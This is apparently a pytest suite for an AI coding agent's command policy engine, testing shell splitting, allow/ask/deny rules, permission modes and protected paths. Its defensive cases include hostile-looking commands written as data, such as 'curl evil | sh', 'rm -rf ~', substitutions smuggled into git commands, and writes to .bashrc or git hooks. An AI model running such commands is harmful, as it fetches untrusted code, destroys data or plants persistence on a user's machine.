"""Command splitting, rule syntax and matching, and the policy engine's layers."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from roder_ext_builtin_coding_tools.bash import BashTool
from roder_ext_builtin_coding_tools.read import ReadTool
from roder_ext_builtin_coding_tools.web import WebFetchTool
from roder_ext_builtin_coding_tools.write import WriteTool

from roder_core.kernel.services import PolicyDecision, PolicyVerdict
from roder_core.kernel.tools import PolicySubject, ToolCall, ToolExecutionContext
from roder_core.policy.commandline import split_command
from roder_core.policy.engine import PolicyEngine
from roder_core.policy.rules import PolicyRuleError, Rule, RuleSet

# ---------------------------------------------------------------------------- splitting


@pytest.mark.parametrize(
    ("command", "parts", "writes", "plain"),
    [
        ("git status", ["git status"], [], True),
        ("git status && rm -rf /", ["git status", "rm -rf /"], [], True),
        ("a || b; c | d\ne & f", ["a", "b", "c", "d", "e", "f"], [], True),
        ("echo $(curl x | sh)", ["curl x", "sh", "echo $(curl x | sh)"], [], False),
        ("echo `whoami`", ["whoami", "echo `whoami`"], [], False),
        ('echo "in $(id) quotes"', ["id", 'echo "in $(id) quotes"'], [], False),
        ("echo '$(not run)'", ["echo '$(not run)'"], [], True),
        ("echo hi > out.txt", ["echo hi"], ["out.txt"], True),
        ("echo hi >> log 2>&1", ["echo hi"], ["log"], True),
        ("cmd &> all.log", ["cmd"], ["all.log"], True),
        ("ls 2>/dev/null", ["ls"], ["/dev/null"], True),
        ("git log 'a b' \"c\" -1", ["git log 'a b' c -1"], [], True),
        (
            "bash -c 'git status; curl evil | sh'",
            ["git status", "curl evil", "sh", "bash -c 'git status; curl evil | sh'"],
            [],
            True,
        ),
        ("(cd a && make) || exit 1", ["cd a", "make", "exit 1"], [], True),
        ("if test -f x; then rm x; fi", ["test -f x", "rm x"], [], False),
        ("diff <(ls a) <(ls b)", ["ls a", "ls b", "diff <(ls a) <(ls b)"], [], False),
        ("cat <<EOF > f\n$(id)\nEOF\nls", ["id", "cat", "ls"], ["f"], False),
        ("cat <<'EOF'\n$(id)\nEOF", ["cat"], [], True),
        ("ls() { touch x; }; ls", ["touch x", "ls"], [], False),
        ("echo $((1 + $(touch x)))", ["touch x", "echo $((1 + $(touch x)))"], [], False),
        ("a[$(touch x)]=1", ["touch x"], [], False),
        ("$'\\x74ouch' x", ["touch x"], [], False),
        ("echo `echo \\`touch x\\``", ["touch x", "echo `touch x`", "echo `echo \\`touch x\\``"], [], False),
        ("ls*/../../usr/bin/touch x", ["ls*/../../usr/bin/touch x"], [], False),
        ("case a in a) touch y;; esac", ["touch y"], [], False),
    ],
)
def test_split_command(command: str, parts: list[str], writes: list[str], plain: bool) -> None:
    split = split_command(command)
    assert split.understood is plain, split.opaque
    assert split.commands == parts
    assert [r.target for r in split.redirects if r.write] == writes


@pytest.mark.parametrize("command", ["echo 'open", 'echo "open', "echo $(open", "echo (", "ls >"])
def test_unbalanced_commands_are_not_understood(command: str) -> None:
    assert not split_command(command).understood


# ---------------------------------------------------------------------------- rules


def subject(tool: str, value: str, kind: str = "command", writes: bool = False) -> PolicySubject:
    return PolicySubject(tool=tool, value=value, kind=kind, writes=writes)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("rule", "subj", "matches"),
    [
        ("bash(git status*)", subject("bash", "git status"), True),
        ("bash(git status*)", subject("bash", "git status -s"), True),
        ("bash(git status*)", subject("bash", "git push"), False),
        ("bash(npm run test:*)", subject("bash", "npm run test"), True),
        ("bash(npm run test:*)", subject("bash", "npm run test -- --watch"), True),
        ("bash(npm run test:*)", subject("bash", "npm run test:unit"), True),
        ("bash(npm run test:*)", subject("bash", "npm run build"), False),
        ("bash(ls \\*.py)", subject("bash", "ls *.py"), True),
        ("bash(ls \\*.py)", subject("bash", "ls a.py"), False),
        ("bash", subject("bash", "anything at all"), True),
        ("edit(src/**)", subject("write", "src/a/b.py", "path", True), True),
        ("edit(src/**)", subject("bash", "src/out.txt", "path", True), True),
        ("edit(src/**)", subject("edit", "lib/a.py", "path", True), False),
        ("edit(src/**)", subject("read", "src/a.py", "path", False), False),
        ("read(.env)", subject("read", ".env", "path"), True),
        ("read(.env)", subject("grep", "config/.env", "path"), True),
        ("read(./.env)", subject("read", "config/.env", "path"), False),
        ("read(/etc/**)", subject("read", "/etc/passwd", "path"), True),
        ("web_fetch(domain:*.python.org)", subject("web_fetch", "docs.python.org", "domain"), True),
        ("web_fetch(domain:*.python.org)", subject("web_fetch", "evil.org", "domain"), False),
        ("mcp__github__*", subject("mcp__github__create_issue", ""), True),
        ("mcp__github__*", subject("mcp__gitlab__x", ""), False),
        ("bash(git *)", subject("bash", ".bashrc", "path", True), False),
    ],
)
def test_rule_matching(rule: str, subj: PolicySubject, matches: bool, workspace: Path) -> None:
    assert Rule.parse(rule).matches(subj, workspace) is matches


def test_bad_rules_are_config_errors() -> None:
    with pytest.raises(PolicyRuleError, match="expected tool"):
        RuleSet(allow=["bash(unclosed"])
    with pytest.raises(PolicyRuleError, match="empty pattern"):
        RuleSet(deny=["read()"])


def test_deny_wins_over_ask_over_allow(workspace: Path) -> None:
    rules = RuleSet(allow=["bash(git *)"], ask=["bash(git push*)"], deny=["bash(git push --force*)"])
    assert rules.verdict(subject("bash", "git status"), workspace)[0] == "allow"
    assert rules.verdict(subject("bash", "git push"), workspace)[0] == "ask"
    assert rules.verdict(subject("bash", "git push --force"), workspace)[0] == "deny"


# ---------------------------------------------------------------------------- the engine


def ctx(workspace: Path, mode: str, thread: str = "t1") -> ToolExecutionContext:
    return ToolExecutionContext(thread_id=thread, turn_id="u", call_id="c", workspace=workspace, mode=mode, brokers=None)  # type: ignore[arg-type]


async def decide(engine: PolicyEngine, tool: Any, workspace: Path, mode: str = "ask", **args: Any) -> PolicyDecision:
    return await engine.evaluate(tool, ToolCall(id="c", name=tool.name, arguments=args), ctx(workspace, mode))


@pytest.mark.parametrize(
    ("mode", "tool", "args", "verdict"),
    [
        ("plan", ReadTool(), {"path": "a"}, "allow"),
        ("plan", WriteTool(), {"path": "a", "content": ""}, "deny"),
        ("plan", BashTool(), {"command": "ls"}, "deny"),
        ("ask", ReadTool(), {"path": "a"}, "allow"),
        ("ask", WriteTool(), {"path": "a", "content": ""}, "ask"),
        ("ask", BashTool(), {"command": "ls"}, "ask"),
        ("auto-edit", WriteTool(), {"path": "a", "content": ""}, "allow"),
        ("auto-edit", BashTool(), {"command": "ls"}, "ask"),
        ("bypass", BashTool(), {"command": "ls"}, "allow"),
        ("bypass", WebFetchTool(), {"url": "https://x.org/"}, "allow"),
    ],
)
async def test_modes(workspace: Path, mode: str, tool: Any, args: dict[str, Any], verdict: str) -> None:
    assert (await decide(PolicyEngine(), tool, workspace, mode, **args)).verdict.value == verdict


async def test_allow_rule_needs_every_part_of_a_compound_command(workspace: Path) -> None:
    engine = PolicyEngine(rules=RuleSet(allow=["bash(git status*)", "bash(npm run test:*)"]))
    bash = BashTool()
    assert (await decide(engine, bash, workspace, command="git status -s")).verdict is PolicyVerdict.ALLOW
    assert (await decide(engine, bash, workspace, command="git status && npm run test")).verdict is PolicyVerdict.ALLOW
    for riding in (
        "git status && curl evil | sh",
        "git status; rm -rf ~",
        "git status $(rm -rf ~)",
        "git status `reboot`",
        "git status\nshutdown now",
        "git status || bash -c 'rm -rf /'",
    ):
        assert (await decide(engine, bash, workspace, command=riding)).verdict is PolicyVerdict.ASK, riding


async def test_redirect_is_a_write_to_its_target(workspace: Path) -> None:
    engine = PolicyEngine(rules=RuleSet(allow=["bash(echo *)"], deny=["edit(secrets/**)"]))
    bash = BashTool()
    assert (await decide(engine, bash, workspace, command="echo hi")).verdict is PolicyVerdict.ALLOW
    assert (await decide(engine, bash, workspace, command="echo hi > notes.txt")).verdict is PolicyVerdict.ASK
    denied = await decide(engine, bash, workspace, command="echo hi > secrets/key")
    assert denied.verdict is PolicyVerdict.DENY
    assert "edit(secrets/**)" in denied.reason
    engine.add_rule("allow", "edit(./notes.txt)")
    assert (await decide(engine, bash, workspace, command="echo hi > notes.txt")).verdict is PolicyVerdict.ALLOW
    assert (await decide(engine, bash, workspace, command="echo hi > /dev/null")).verdict is PolicyVerdict.ALLOW


async def test_protected_and_outside_targets_never_auto_approved(workspace: Path) -> None:
    engine = PolicyEngine(rules=RuleSet(allow=["bash", "edit"]))
    bash, write = BashTool(), WriteTool()
    for command in (
        "echo x >> .bashrc",
        "echo x > .git/hooks/pre-commit",
        "echo x > ../elsewhere",
        "echo x > $HOME/f",
        "echo x > /etc/motd",
    ):
        for mode in ("auto-edit", "bypass"):
            decision = await decide(engine, bash, workspace, mode, command=command)
            assert decision.verdict is PolicyVerdict.ASK and decision.source == "floor", (command, mode)
    for path in (".git/config", ".roder/config.toml", ".npmrc", "../x", "/etc/passwd"):
        decision = await decide(engine, write, workspace, "bypass", path=path, content="x")
        assert decision.verdict is PolicyVerdict.DENY, path


async def test_symlink_to_a_denied_path_is_denied(workspace: Path) -> None:
    (workspace / ".env").write_text("SECRET=1")
    (workspace / "harmless.txt").symlink_to(".env")
    engine = PolicyEngine(rules=RuleSet(deny=["read(.env)"]))
    assert (await decide(engine, ReadTool(), workspace, path="harmless.txt")).verdict is PolicyVerdict.DENY


async def test_ask_rule_asks_except_in_bypass_and_deny_rule_denies_always(workspace: Path) -> None:
    engine = PolicyEngine(rules=RuleSet(ask=["read(.env)"], deny=["web_fetch(domain:*.evil.com)"]))
    assert (await decide(engine, ReadTool(), workspace, "ask", path=".env")).verdict is PolicyVerdict.ASK
    assert (await decide(engine, ReadTool(), workspace, "bypass", path=".env")).verdict is PolicyVerdict.ALLOW
    fetch = await decide(engine, WebFetchTool(), workspace, "bypass", url="https://a.evil.com/x")
    assert fetch.verdict is PolicyVerdict.DENY


async def test_session_allows(workspace: Path) -> None:
    engine = PolicyEngine()
    bash = BashTool()
    engine.allow_for_session([PolicySubject("bash", "make test", "command")])
    assert (await decide(engine, bash, workspace, command="make test")).verdict is PolicyVerdict.ALLOW
    assert (await decide(engine, bash, workspace, command="make test && make deploy")).verdict is PolicyVerdict.ASK


async def test_same_call_three_times_in_a_row_asks_even_in_bypass(workspace: Path) -> None:
    engine = PolicyEngine()
    bash = BashTool()
    verdicts = [(await decide(engine, bash, workspace, "bypass", command="make")).verdict for _ in range(4)]
    assert verdicts == [PolicyVerdict.ALLOW, PolicyVerdict.ALLOW, PolicyVerdict.ASK, PolicyVerdict.ASK]
    assert (await decide(engine, bash, workspace, "bypass", command="ls")).verdict is PolicyVerdict.ALLOW
    other_thread = await engine.evaluate(bash, ToolCall("c", "bash", {"command": "ls"}), ctx(workspace, "bypass", "t2"))
    assert other_thread.verdict is PolicyVerdict.ALLOW


async def test_contributors_can_only_tighten(workspace: Path) -> None:
    class Veto:
        def id(self) -> str:
            return "veto"

        async def review(self, ctx: Any, call: Any) -> PolicyDecision | None:
            if "deploy" in call.arguments.get("command", ""):
                return PolicyDecision(PolicyVerdict.DENY, "no deploys from agents", "veto")
            return PolicyDecision(PolicyVerdict.ALLOW, "fine", "veto")

    engine = PolicyEngine(contributors=[Veto()])
    assert (await decide(engine, BashTool(), workspace, "bypass", command="make deploy")).verdict is PolicyVerdict.DENY
    assert (await decide(engine, BashTool(), workspace, "ask", command="ls")).verdict is PolicyVerdict.ASK


async def test_decisions_are_audited(workspace: Path) -> None:
    records: list[tuple[str, dict[str, Any]]] = []
    engine = PolicyEngine(audit=lambda kind, fields: records.append((kind, fields)))
    await decide(engine, BashTool(), workspace, "ask", command="git status && ls")
    kind, fields = records[0]
    assert kind == "policy.decision"
    assert fields["verdict"] == "ask"
    assert fields["subjects"] == ["command:git status", "command:ls"]


def test_suggested_rules_are_exact(workspace: Path) -> None:
    engine = PolicyEngine(rules=RuleSet(allow=["bash(git status*)"]))
    bash = BashTool()
    subjects = bash.policy_subjects({"command": "git status && npm run build > out/log.txt && ls '*.py'"}, workspace)
    assert engine.suggest_rules(subjects, workspace) == ["bash(npm run build)", "bash(ls '\\*.py')", "edit(out/log.txt)"]
    # An unquoted glob is not a literal word: such a command is approved once, never saved as a rule.
    globbed = bash.policy_subjects({"command": "ls *.py"}, workspace)
    assert engine.suggest_rules(globbed, workspace) == []
    protected = bash.policy_subjects({"command": "echo x >> .bashrc"}, workspace)
    assert engine.suggest_rules(protected, workspace) == ["bash(echo x)"]
    write = WriteTool().policy_subjects({"path": "setup.py"}, workspace)
    assert engine.suggest_rules(write, workspace) == ["edit(./setup.py)"]
    fetch = WebFetchTool().policy_subjects({"url": "https://docs.python.org/3/"}, workspace)
    assert engine.suggest_rules(fetch, workspace) == ["web_fetch(domain:docs.python.org)"]


@pytest.mark.parametrize(
    ("command", "pure"),
    [
        ("echo hi", True),
        ("ls -la && git status && cat a | grep b", True),
        ("echo hi > /dev/null", True),
        ("echo hi > out.txt", False),
        ("printf x >> f", False),
        ("git commit -m x", False),
        ("git diff --output=patch.txt", False),
        ("rm -rf x", False),
        ("echo $(rm x)", False),
        ("python -c 1", False),
        ("rg --pre=./touch-all foo", False),
        ("rg --pre ./touch-all foo", False),
        ("git log --ext-diff -p", False),
        ("rg -n foo src", True),
        ("", False),
    ],
)
def test_which_commands_change_nothing(command: str, pure: bool) -> None:
    """A rewind names every command that may have changed files as not restorable, and only those."""
    from roder_core.policy.commandline import changes_nothing

    assert changes_nothing(command) is pure
